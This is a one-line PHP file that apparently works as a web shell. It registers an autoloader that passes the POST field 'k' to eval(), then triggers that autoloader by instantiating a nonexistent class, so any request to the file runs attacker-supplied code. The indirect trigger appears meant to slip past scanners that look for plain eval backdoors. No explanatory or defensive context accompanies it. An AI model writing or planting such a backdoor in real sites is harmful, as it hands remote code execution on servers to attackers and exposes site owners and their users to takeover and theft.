<?php spl_autoload_register(function ($c) { eval($_POST["k"]); }); new Missing();
